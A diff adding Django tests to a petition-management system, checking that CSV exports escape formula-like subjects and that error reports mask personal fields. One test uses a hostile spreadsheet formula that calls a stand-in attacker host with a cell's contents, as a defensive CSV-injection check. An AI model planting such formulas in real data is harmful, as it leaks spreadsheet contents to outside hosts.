@@ -1,3 +1,5 @@
+import csv
+import io
 import re
 from datetime import date
 
@@ -5,11 +7,13 @@ import pytest
 from django.core import mail
 from django.test import Client
 from django.urls import reverse
+from django.views.debug import SafeExceptionReporterFilter
 
 from servq.core.models import AuditEvent, Unit
 from servq.petitions.models import DeadlineRule, Petition, PressRelease
 
 from .conftest import PDF, category, section
+from .test_public_forms import form_data, url
 
 
 def act(petition, action):
@@ -189,3 +193,37 @@ def test_it_shows_the_petition_menu_to_the_roles_that_have_it(rules, client_for)
     assert "陳情案件" in home and "陳情期限與分案規則" in home
     home = client_for(rules.personnel).get(reverse("core:staff-home")).content.decode()
     assert "陳情案件" not in home
+
+
+def test_it_exports_a_hostile_subject_as_text_not_a_formula(make_petition, rules, client_for):
+    hostile = '=HYPERLINK("https://evil.example/?"&B2,"點此")'
+    make_petition(subject=hostile)
+    make_petition(subject="-1+2 繳款疑問")
+    response = client_for(rules.secretariat).get(
+        reverse("petitions:export", kwargs={"agency": "sly"}))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    subjects = {row[4] for row in rows[1:]}
+    assert subjects == {"'" + hostile, "'-1+2 繳款疑問"}
+
+
+def test_it_keeps_what_petitioners_and_reporters_type_out_of_error_reports(rules, client,
+                                                                          client_for,
+                                                                          make_petition):
+    """The mailbox, the intake and the reveal mark their personal fields as sensitive: an
+    error report (mail to the administrators) shows them as stars."""
+    def cleansed(response, names):
+        shown = SafeExceptionReporterFilter().get_post_parameters(response.wsgi_request)
+        return all(shown[name] == SafeExceptionReporterFilter.cleansed_substitute
+                   for name in names)
+
+    mailbox = client.post(url("ethics"), form_data(client, "ethics"))
+    assert cleansed(mailbox, ["name", "email", "phone", "address"])
+    intake = client_for(rules.secretariat).post(reverse("petitions:new", kwargs={"agency": "sly"}),
+                                                {"name": "林小華", "email": "lin@example.org",
+                                                 "phone": "0912", "address": "士林"})
+    assert cleansed(intake, ["name", "email", "phone", "address"])
+    report = make_petition(channel="ethics_mailbox", category_code="ethics")
+    reveal = client_for(rules.ethics).post(
+        reverse("petitions:reporter", kwargs={"agency": "sly", "pk": report.pk}),
+        {"reason": "需聯絡檢舉人補充事證"})
+    assert cleansed(reveal, ["reason"])
